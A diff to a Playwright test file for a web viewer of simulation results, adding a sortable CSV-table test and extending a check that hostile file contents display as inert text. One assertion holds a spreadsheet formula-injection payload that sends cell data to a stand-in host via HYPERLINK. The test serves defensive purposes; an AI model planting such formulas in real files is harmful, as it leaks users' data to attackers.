@@ -264,6 +264,30 @@ test("a name that something on the way could take for a path is not forwarded, w
   }
 });
 
+test("a csv file is a table that is sorted by a click, and its text on demand", async ({ jobsPage }) => {
+  const results = await openResults(jobsPage, 701_637);
+  await results.file("SimJobIndex.csv").click();
+  const table = results.root.getByRole("table", { name: "Table of the file" });
+  const column = table.getByRole("columnheader", { name: "@@glazing@@" });
+  await expect(table).toHaveAttribute("aria-rowcount", "21");
+  const cells = async (): Promise<number[]> =>
+    (await table.getByRole("row").locator("> :nth-child(5)").allTextContents()).slice(1).map(Number);
+  const before = await cells();
+  expect(before).toHaveLength(20);
+  await column.getByRole("button").click();
+  await expect(column).toHaveAttribute("aria-sort", "ascending");
+  expect(await cells()).toEqual(before.toSorted((one, other) => one - other));
+  await column.getByRole("button").click();
+  await expect(column).toHaveAttribute("aria-sort", "descending");
+  await column.getByRole("button").click();
+  await expect(column).not.toHaveAttribute("aria-sort");
+  expect(await cells()).toEqual(before);
+  await results.root.getByRole("button", { name: "Table" }).click();
+  await expect.poll(async () => (await results.viewer.lines())[0]).toBe(
+    "#,Job_ID,WeatherFile,ModelFile,@@glazing@@,@@overhang@@,@@uwall@@",
+  );
+});
+
 test("hostile names and contents are shown as text", async ({ jobsPage, page, server }) => {
   const external: string[] = [];
   page.on("request", (request) => {
@@ -283,6 +307,10 @@ test("hostile names and contents are shown as text", async ({ jobsPage, page, se
     ["messages.err", "   ** Warning ** <b>EnergyPlus Completed Successfully-- 0 Warning; 0 Severe Errors</b>"],
   ] as const) {
     await results.file(name).click();
+    if (name.endsWith(".csv")) {
+      await expect(results.root.getByRole("cell", { name: '=HYPERLINK("//evil.example/?"&A1)', exact: true })).toBeVisible();
+      await results.root.getByRole("button", { name: "Table" }).click();
+    }
     await expect.poll(() => results.viewer.lines()).toContain(text);
     expect(await foreignMarkup(page)).toEqual([]);
     await results.viewer.allFiles.click();
